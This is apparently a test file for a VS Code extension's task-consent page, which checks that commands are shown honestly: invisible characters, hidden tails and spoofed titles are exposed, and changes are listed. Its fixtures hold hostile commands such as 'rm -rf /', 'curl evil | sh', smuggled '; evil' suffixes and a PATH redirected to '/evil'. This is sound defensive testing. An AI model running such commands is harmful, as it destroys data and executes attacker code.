import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { consentPage } from '../../../../src/vscode/consent/page-text.ts';

const shop = { name: 'shop', path: '/shop' };
const task = (name: string, commandLine = `run ${name}`, cwd = '/shop', details: readonly string[] = []) => ({
  name,
  title: name,
  commandLine,
  cwd,
  details,
  hash: JSON.stringify([name, commandLine, cwd, details]),
});
const setOf = (...tasks: ReturnType<typeof task>[]) => ({ hash: 'h', tasks });
const recordOf = (...tasks: ReturnType<typeof task>[]) => ({ answer: 'allowed', hash: 'old', tasks }) as const;

/** The part below the explanation. */
function shown(...[set, record]: [Parameters<typeof consentPage>[0], Parameters<typeof consentPage>[1]?]): string[] {
  const lines = consentPage(set, record, shop).split('\n');
  return lines.slice(7, -1);
}

describe('the page on which a person decides', () => {
  it('has every command, its folder where that is another, and what else runs', () => {
    const set = setOf(task('api', 'node server.js'), task('ui', 'npm run dev', '/shop/web', ['user: root']));
    assert.deepEqual(shown(set), [
      '  api',
      '      command  node server.js',
      '',
      '  ui',
      '      command  npm run dev',
      '      cwd      ./web',
      '      user     root',
    ]);
  });

  it('E4: shows a folder outside of the project as it is, and one that is called ~ as one inside', () => {
    assert.ok(shown(setOf(task('a', 'x', '/home/me/x'))).includes('      cwd      /home/me/x'));
    assert.ok(shown(setOf(task('a', 'x', '/shop/~/x'))).includes('      cwd      ./~/x'));
  });

  it('E4: keeps a title apart from the command, so that it cannot pass for one', () => {
    const title = `safe\n      command  node ok.js${' '.repeat(500)}x`;
    const lines = shown(setOf({ ...task('evil', 'rm -rf /'), title }));
    assert.deepEqual(lines, ['  evil  “safe\\n command node ok.js x”', '      command  rm -rf /']);
    assert.ok((shown(setOf({ ...task('a'), title: 'x'.repeat(500) }))[0] ?? '').length < 60);
  });

  it('E4: shows blanks and letters that no screen draws', () => {
    for (const hidden of [
      '\u3164',
      '\u2800',
      '\ufe0f',
      '\u{e0041}',
      '\u200b',
      '\u202e',
      '\u00a0',
      '\u00ad',
      '\t',
      '\r',
    ]) {
      const [, command = ''] = shown(setOf(task('a', `ls ${hidden}; evil`)));
      assert.match(command, /^ {6}command {2}ls \\(?:u\{[0-9a-f]+\}|[tr]); evil$/, hidden.codePointAt(0)?.toString(16));
    }
  });

  it('E4: pushes no tail out of sight by blanks: it counts them, also at the ends', () => {
    const [, command] = shown(setOf(task('a', `ls${' '.repeat(1500)}; evil `)));
    assert.equal(command, '      command  ls⟨␣×1500⟩; evil␣');
    const [, imitated] = shown(setOf(task('a', 'ls⟨␣×1500⟩')));
    assert.equal(imitated, '      command  ls\\u{27e8}␣×1500⟩');
  });

  it('E4: goes on in the next line where a command is long, whole, and says how long it is', () => {
    const long = `echo ${'x'.repeat(12_000)}; evil`;
    const lines = shown(setOf(task('a', long)));
    assert.ok(lines.every((line) => line.length <= 120));
    assert.equal(lines[1], `      (the next ${String(lines.length - 2)} lines)`);
    const text = lines
      .slice(2)
      .map((line) => line.slice(15))
      .join('');
    assert.equal(text, long);
    assert.ok(lines.slice(3).every((line) => line.startsWith(`${' '.repeat(13)}↪ `)));
  });

  it('E4: says that the content of scripts and env files is not part of it', () => {
    assert.match(consentPage(setOf(task('a')), undefined, shop), /content of scripts and env files is not part of it/);
  });

  it('tells what is new, changed with its old and new values, gone, and agreed to before', () => {
    const record = recordOf(task('api', 'run api', '/shop', ['user: me']), task('db'), task('ui'));
    const set = setOf(task('api', 'curl evil | sh', '/shop', ['env.PATH: /evil']), task('ui'), task('new'));
    assert.deepEqual(shown(set, record), [
      'NEW',
      '',
      '  new',
      '      command  run new',
      '',
      'CHANGED',
      '',
      '  api',
      '      command           curl evil | sh',
      '      command, before   run api',
      '      env.PATH          /evil',
      '      env.PATH, before  (nothing)',
      '      user              (nothing)',
      '      user, before      me',
      '',
      'GONE',
      '',
      '  db',
      '      command  run db',
      '',
      'AGREED TO BEFORE',
      '',
      '  ui',
      '      command  run ui',
    ]);
  });

  it('says so where only the value of a variable is another', () => {
    const lines = shown(setOf({ ...task('api'), hash: 'another' }), recordOf(task('api')));
    assert.ok(lines.includes('      env      (the value of a variable is another)'));
  });

  it('claims no changes after “never”', () => {
    const lines = shown(setOf(task('api', 'other')), { ...recordOf(task('api')), answer: 'never' });
    assert.deepEqual(lines, ['  api', '      command  other']);
  });
});
